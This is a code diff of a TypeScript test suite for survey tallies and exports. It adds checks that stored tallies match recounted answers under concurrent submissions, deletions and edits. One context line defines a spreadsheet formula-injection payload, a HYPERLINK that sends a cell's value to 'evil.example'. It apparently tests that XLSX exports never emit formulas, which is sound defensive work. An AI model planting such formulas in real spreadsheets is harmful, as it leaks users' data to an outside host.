@@ -22,11 +22,12 @@ const SET_MODE = `mutation SM($input: SetSurveyModeInput!) { setSurveyMode(input
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';
 
 /**
- * Survey exports beyond the CSV of the results page: the results as XLSX with the codebook as a
- * second sheet, and the researchers' person-level export (consenting respondents of CONFIDENTIAL and
+ * The tallies the results read (kept by triggers on survey_answer) against the answers themselves,
+ * under concurrent submissions, edits and deletions; the results as XLSX with the codebook as a
+ * second sheet; and the researchers' person-level export (consenting respondents of CONFIDENTIAL and
  * NAMED surveys only, under the self-assessment export's pseudonym). Own data: one edition, two sessions.
  */
-describe('survey exports: results as XLSX with a codebook, the pseudonymised research export', () => {
+describe('survey data: tallies that follow the answers, results as XLSX, the pseudonymised research export', () => {
   let t: TestApp;
   let editionId: string;
   let trainer: GqlClient;
@@ -114,6 +115,69 @@ describe('survey exports: results as XLSX with a codebook, the pseudonymised res
     }
   }, 120_000);
   afterAll(() => t?.close());
+
+  /** The tallies as stored, and as recounted from the answers: they must be the same. */
+  const tallies = async (surveyId: string) => {
+    const stored: unknown[] = await t.db.query(
+      `SELECT question_id, country_code, side, responses AS n FROM survey_question_tally
+        WHERE survey_id = $1 AND responses > 0 ORDER BY 1, 2, 3`,
+      [surveyId],
+    );
+    const counted: unknown[] = await t.db.query(
+      `SELECT a.question_id, coalesce(r.country_code, '') AS country_code, coalesce(r.side, '') AS side,
+              count(DISTINCT a.response_id)::int AS n
+         FROM survey_answer a JOIN survey_response r ON r.id = a.response_id
+        WHERE r.survey_id = $1 GROUP BY 1, 2, 3 ORDER BY 1, 2, 3`,
+      [surveyId],
+    );
+    const storedValues: unknown[] = await t.db.query(
+      `SELECT question_id, country_code, side, value, answers AS n FROM survey_value_tally
+        WHERE survey_id = $1 AND answers > 0 ORDER BY 1, 2, 3, 4`,
+      [surveyId],
+    );
+    const countedValues: unknown[] = await t.db.query(
+      `SELECT a.question_id, coalesce(r.country_code, '') AS country_code, coalesce(r.side, '') AS side,
+              CASE WHEN a.value LIKE 'other:%' THEN 'OTHER' ELSE a.value END AS value, count(*)::int AS n
+         FROM survey_answer a JOIN survey_response r ON r.id = a.response_id
+         JOIN survey_question q ON q.id = a.question_id AND q.type <> 'TEXT'
+        WHERE r.survey_id = $1 GROUP BY 1, 2, 3, 4 ORDER BY 1, 2, 3, 4`,
+      [surveyId],
+    );
+    return { stored, counted, storedValues, countedValues };
+  };
+
+  it('keeps the tallies equal to the answers under concurrent submissions, deletions and edits', async () => {
+    const before = await tallies(confidential);
+    expect(before.stored).toEqual(before.counted);
+    expect(before.storedValues).toEqual(before.countedValues);
+    expect(before.stored.length).toBeGreaterThan(0);
+    // Twelve people answer a third session's survey at the same moment (one INSERT each, in parallel).
+    const module = await givenNationalModule(t.db, editionId, 'EE');
+    const crowd = await givenTandems(t, editionId, 6, 'EE');
+    const surveyId = await heldSession(module, crowd);
+    const people = crowd.flatMap((x) => [x.school, x.company]);
+    await Promise.all(people.map((p, i) => answer(p, surveyId, `Remark ${i}`)));
+    const after = await tallies(surveyId);
+    expect(after.stored).toEqual(after.counted);
+    expect(after.storedValues).toEqual(after.countedValues);
+    const fours = (rows: unknown[]) =>
+      (rows as { value: string; n: number }[]).filter((r) => r.value === '4').reduce((sum, r) => sum + r.n, 0);
+    expect(fours(after.storedValues)).toBe(12);
+    // A response deleted (as a survey's cascade does) and a text emptied (as an erasure does).
+    await t.db.query(
+      `DELETE FROM survey_response WHERE id = (SELECT id FROM survey_response WHERE survey_id = $1 LIMIT 1)`,
+      [surveyId],
+    );
+    await t.db.query(
+      `UPDATE survey_answer a SET value = '' FROM survey_response r
+        WHERE r.id = a.response_id AND r.survey_id = $1 AND a.value LIKE 'Remark%'`,
+      [surveyId],
+    );
+    const edited = await tallies(surveyId);
+    expect(edited.stored).toEqual(edited.counted);
+    expect(edited.storedValues).toEqual(edited.countedValues);
+    expect(fours(edited.storedValues)).toBe(11);
+  });
 
   it('gives the results as a workbook: the results in scope, then the codebook, texts never formulas', async () => {
     const res = await get(trainer, `/api/surveys/${confidential}/results.xlsx`);
